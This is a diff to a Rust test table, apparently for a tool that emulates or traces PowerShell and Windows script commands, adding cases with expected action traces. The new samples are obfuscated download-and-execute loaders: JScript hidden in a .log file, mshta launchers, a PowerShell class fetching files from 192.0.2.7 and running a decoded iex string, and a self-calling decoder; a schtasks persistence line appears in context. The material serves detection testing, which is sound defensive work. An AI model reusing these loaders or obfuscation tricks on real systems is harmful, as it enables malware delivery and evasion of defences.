@@ -456,7 +456,76 @@ schtasks /create /tn Upd /tr C:\a.exe /sc minute /f",
     (
         "vbscript on disk",
         r#"'CreateObject("WScript.Shell").Run "calc"' | Out-File -Encoding ascii $env:TEMP\x.vbs; wscript $env:TEMP\x.vbs"#,
-        &[r"write C:\Users\k.tanaka\AppData\Local\Temp\x.vbs 42", r"run wscript C:\Users\k.tanaka\AppData\Local\Temp\x.vbs"],
+        &[
+            r"write C:\Users\k.tanaka\AppData\Local\Temp\x.vbs 42",
+            r"run wscript C:\Users\k.tanaka\AppData\Local\Temp\x.vbs",
+            "run calc",
+        ],
+    ),
+    (
+        "jscript on disk under another name",
+        r#"Set-Content C:\x.log 'new ActiveXObject("WScript.Shell").Run("http://192.0.2.7/".concat("a"))'; cscript //nologo //e:jscript C:\x.log"#,
+        &[r"write C:\x.log 73", r"run cscript //nologo //e:jscript C:\x.log", "run http://192.0.2.7/a"],
+    ),
+    (
+        "mshta with both languages",
+        r#"mshta 'vbscript:CreateObject("WScript.Shell").Run("ca" & "lc")(window.close)'; mshta "javascript:new ActiveXObject('WScript.Shell').Run('no'+'tepad');close()""#,
+        &[
+            r#"run mshta "vbscript:CreateObject(\"WScript.Shell\").Run(\"ca\" & \"lc\")(window.close)""#,
+            "evaluate vbscript",
+            "run calc",
+            r#"run mshta "javascript:new ActiveXObject('WScript.Shell').Run('no'+'tepad');close()""#,
+            "evaluate javascript",
+            "run notepad",
+        ],
+    ),
+    (
+        "a class with a constructor, methods and static members",
+        r#"
+enum Kind { First; Second = 5; Third }
+class Base {
+  [string]$host = '192.0.2.7'
+  hidden [int]$port
+  Base([int]$port) { $this.port = $port }
+  [string] Url([string]$path) { "noise"; return "http://$($this.host):$($this.port)/$path" }
+}
+class Loader : Base, System.IDisposable {
+  static [string]$name = "a" + "b"
+  [System.Collections.ArrayList]$parts = @()
+  Loader() : base(8080) { $this.parts = 1,2 }
+  Loader([string]$x) : base(80) { }
+  static [string] Decode([string]$text) {
+    $out = ''
+    foreach ($c in $text.ToCharArray()) { $out += [char]([int]$c - 1) }
+    return $out
+  }
+  [void] Go() {
+    foreach ($part in $this.parts) { Invoke-WebRequest ($this.Url("$([Loader]::name)$part")) -OutFile "C:\x$part" }
+    [Loader]::name = 'z'
+  }
+  [void] Dispose() { iex ([Loader]::Decode('jxs!iuuq;002:3/1/3/8')) }
+}
+$l = [Loader]::new()
+$l.Go()
+$m = New-Object Loader -ArgumentList 'x'
+iwr ($m.Url([Loader]::name + [Kind]::Third))
+$m.Dispose()
+"#,
+        &[
+            r"fetch http://192.0.2.7:8080/ab1 to C:\x1",
+            r"fetch http://192.0.2.7:8080/ab2 to C:\x2",
+            "fetch http://192.0.2.7:80/z6",
+            "evaluate powershell",
+            "fetch http://192.0.2.7",
+        ],
+    ),
+    (
+        "a decoder that calls itself",
+        r#"function d($s){if($s.Length -eq 0){return ''};return [string][char]([int]$s.Substring(0,3)-7)+(d $s.Substring(3))};iex (d ('112126121039111123123119065054054056064057053055053057053062054'+'104'*80))"#,
+        &[
+            "evaluate powershell",
+            "fetch http://192.0.2.7/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+        ],
     ),
     (
         "shortcut in startup",
